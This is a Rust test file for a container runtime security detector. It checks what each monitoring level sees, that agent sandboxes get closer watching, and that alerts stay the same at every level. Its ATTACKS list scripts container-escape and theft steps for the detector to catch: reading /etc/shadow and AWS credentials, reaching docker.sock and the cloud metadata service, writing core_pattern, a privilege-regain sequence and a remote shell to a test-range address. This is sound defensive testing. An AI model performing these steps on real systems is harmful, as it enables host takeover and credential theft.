//! How closely something is looked at: what each level sees, and that alerts depend on none.

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use serde_json::Value;
use tests::shipped::NAMESPACE;
use tests::{Act, Alert, Container, Counts, Detector, Engine, Image, Verdict, allow};

/// A rule that asks for nothing of what the levels differ in.
const UNSHARED: &str = "\
- rule: Unshared
  desc: Somebody has left a namespace
  condition: evt.type = unshare
  output: left a namespace
  priority: WARNING
";

/// Far more than whatever else happens on the host meanwhile.
const TIMES: u64 = 3000;

#[test]
fn each_level_sees_its_own_and_what_the_levels_before_it_see() -> Verdict {
    let engine = Engine::shared()?;
    let directory = tempfile::tempdir()?;
    let rules = directory.path().join("unshared.yaml");
    std::fs::write(&rules, UNSHARED)?;
    let rules = rules.to_str().context("no text")?;
    let container = Container::idle(engine, Image::Bare, &[])?;
    let watch = format!("container={}", container.id());
    // What is seen of reads, of writes, and of privileges and connections.
    for (level, reads, writes, others) in [
        ("rules", false, false, false),
        ("operations", false, true, true),
        ("all", true, true, true),
    ] {
        let options = ["--watch", &watch, "--level", level, "--rules", rules];
        let detector = Detector::start_with(engine, &options)?;
        for (words, kind, seen) in [
            (format!("open-storm {TIMES} /etc/passwd"), "open", reads),
            (format!("refused-storm {TIMES}"), "open", reads),
            (format!("write-storm {TIMES} /tmp/file"), "open", writes),
            (format!("setid-storm {TIMES}"), "privilege", others),
            (format!("connect-storm {TIMES}"), "connect", others),
        ] {
            sees(&detector, &container, &words, kind, seen)
                .with_context(|| format!("{words} at {level}"))?;
        }
        detector.stop()?;
    }
    Ok(())
}

/// A storm of one kind is seen, or filtered.
fn sees(
    detector: &Detector,
    container: &Container<'_>,
    words: &str,
    kind: &str,
    seen: bool,
) -> Result<()> {
    let before = of_kind(&detector.even()?, kind);
    container.perform(&Act::new(words))?;
    let after = of_kind(&detector.even()?, kind);
    let (saw, filtered) = (after.0 - before.0, after.1 - before.1);
    let (much, little) = if seen {
        (saw, filtered)
    } else {
        (filtered, saw)
    };
    ensure!(
        much >= TIMES && little < TIMES,
        "{saw} seen and {filtered} filtered"
    );
    Ok(())
}

/// Seen and filtered of one kind.
fn of_kind(counts: &[Counts], kind: &str) -> (u64, u64) {
    let counts = counts.iter().find(|counts| counts.kind == kind);
    counts.map_or((0, 0), |counts| (counts.seen, counts.filtered))
}

#[test]
fn shipped_rules_ask_for_files_by_their_names() -> Verdict {
    let engine = Engine::shared()?;
    let container = Container::idle(engine, Image::Bare, &[])?;
    // Names count where the kernel ends up, whatever was asked for.
    container.exec(&["ln", "-s", "/etc/shadow", "/tmp/link"])?;
    let watch = format!("container={}", container.id());
    let detector = Detector::start_with(engine, &["--watch", &watch, "--level", "rules"])?;
    for (path, seen) in [("/etc/passwd", false), ("/tmp/link", true)] {
        let words = format!("open-storm {TIMES} {path}");
        sees(&detector, &container, &words, "open", seen).context(path)?;
    }
    detector.stop()?;
    Ok(())
}

#[test]
fn agents_are_looked_at_more_closely_than_others() -> Verdict {
    let engine = Engine::shared()?;
    let agent = Container::idle(engine, Image::Bare, &["--label", "openclaw.sandbox=1"])?;
    let other = Container::idle(engine, Image::Bare, &[])?;
    let detector = Detector::start(engine)?;
    let mut levels = (String::new(), String::new());
    for _ in 0..50 {
        levels = (level(&detector, &agent)?, level(&detector, &other)?);
        if levels == ("operations".into(), "rules".into()) {
            detector.stop()?;
            return Ok(());
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    Err(anyhow::anyhow!(
        "the agent is looked at by {}, the other by {}",
        levels.0,
        levels.1
    )
    .into())
}

fn level(detector: &Detector, container: &Container<'_>) -> Result<String> {
    let status = detector.status()?;
    let containers = status.get("containers").and_then(Value::as_array);
    let own = containers.and_then(|all| {
        all.iter()
            .find(|one| one.get("id").and_then(Value::as_str) == Some(container.id()))
    });
    let level = own.and_then(|own| own.get("level")?.as_str());
    Ok(level.unwrap_or_default().to_owned())
}

/// One act for each shipped rule, and one that is refused.
const ATTACKS: &[&str] = &[
    "mount none /mnt tmpfs",
    "mount none /mnt proc then open /mnt/sys/kernel/core_pattern write",
    "mknod-block /tmp/disk 7 0 then open /tmp/disk read",
    "setns /proc/self/ns/mnt mnt",
    "chroot /proc/1/root/etc",
    "open /etc/shadow read",
    "open /root/.aws/credentials read openat2",
    "connect unix /run/docker.sock",
    "connect tcp 169.254.169.254 80 nonblocking",
    "connect tcp ::ffff:169.254.169.254 80 nonblocking",
    "bpf map-create",
    "delete-module none",
    "memfd chdir /tmp",
    "unshare user",
    "unlinked /tmp/gone chdir /tmp",
    "remote-shell dup2 198.51.100.7 4001 /tmp/sh",
    "remote-input dup3 198.51.100.7 4002",
    "prctl keep-caps then setid setresuid 1000 1000 1000 then capset 128 128 0 then setid setuid 0",
    // The last one: with its alert, those before have come.
    "unshare mnt",
];

/// Detectors of all levels side by side, and one run of the attacks under the eyes of all: what the
/// sensor holds back for one of them changes none of its alerts.
#[test]
fn alerts_are_the_same_at_every_level() -> Verdict {
    let engine = Engine::shared()?;
    let options = [
        allow::ADMINISTRATION.as_slice(),
        &allow::LOOP_DEVICES,
        &allow::NETWORK,
    ];
    let container = Container::idle(engine, Image::Bare, &options.concat())?;
    let levels = ["rules", "operations", "all"];
    let detectors = levels.map(|level| Detector::start_with(engine, &["--level", level]));
    let detectors = detectors.into_iter().collect::<Result<Vec<_>>>()?;
    container.shell(
        "ip address add 198.51.100.7/32 dev lo; cp /bin/acts /tmp/gone; cp /bin/busybox /tmp/sh",
    )?;
    for words in ATTACKS {
        container.perform(&Act::new(words))?;
    }
    let mut told = Vec::new();
    for detector in &detectors {
        detector.wait_for(&container, |alert| {
            alert.rule() == NAMESPACE.name && alert.mentions("NEWNS")
        })?;
        // What travelled in the lane behind.
        detector.even()?;
        told.push(deeds(&detector.alerts_of(&container)));
    }
    let [rules, operations, all] = told.as_slice() else {
        return Err(anyhow::anyhow!("three levels were asked").into());
    };
    let names: BTreeSet<_> = rules.keys().map(|deed| &deed.rule).collect();
    assert!(names.len() >= 12, "{names:#?}");
    for others in [operations, all] {
        assert!(rules.keys().eq(others.keys()), "{rules:#?}\n{others:#?}");
        for ((deed, parents), theirs) in rules.iter().zip(others.values()) {
            assert!(parents.agree(theirs), "{deed:#?}: {parents:?} {theirs:?}");
        }
    }
    detectors.into_iter().try_for_each(Detector::stop)?;
    Ok(())
}

/// What an alert says was done.
#[derive(Debug, PartialEq, Eq, PartialOrd, Ord)]
struct Deed {
    rule: String,
    priority: String,
    outcome: String,
    process: String,
    /// Rule, process, object and all that the rule shows of them.
    message: String,
}

/// Who is said to have made an actor. The process of the host that did was there for moments: whether
/// it could still be asked who it is is chance.
#[derive(Debug, Default)]
struct Parents(BTreeSet<String>);

impl Parents {
    /// Whether nobody says another than somebody else.
    fn agree(&self, others: &Self) -> bool {
        self.0.is_empty() || others.0.is_empty() || self.0 == others.0
    }
}

/// What is not chance in an output, and the parent apart: each detector has measured its own distance
/// to the wall clock.
fn certain(output: &str) -> (String, Option<String>) {
    const PARENT: &str = "parent=";
    let (_, rest) = output.split_once(": ").unwrap_or(("", output));
    let (parents, words): (Vec<_>, Vec<_>) =
        rest.split(' ').partition(|word| word.starts_with(PARENT));
    let parent = parents.first().and_then(|word| word.strip_prefix(PARENT));
    let parent = parent.filter(|name| *name != "<NA>").map(str::to_owned);
    (words.join(" "), parent)
}

fn deeds(alerts: &[Alert]) -> BTreeMap<Deed, Parents> {
    let mut deeds = BTreeMap::<_, Parents>::new();
    for alert in alerts {
        let text = |pointer| alert.get(pointer).and_then(Value::as_str);
        let (message, parent) = certain(text("/output").unwrap_or_default());
        let deed = Deed {
            rule: alert.rule().to_owned(),
            priority: alert.priority(),
            outcome: alert.outcome().to_owned(),
            process: text("/process/exec_id").unwrap_or_default().to_owned(),
            message,
        };
        deeds.entry(deed).or_default().0.extend(parent);
    }
    deeds
}
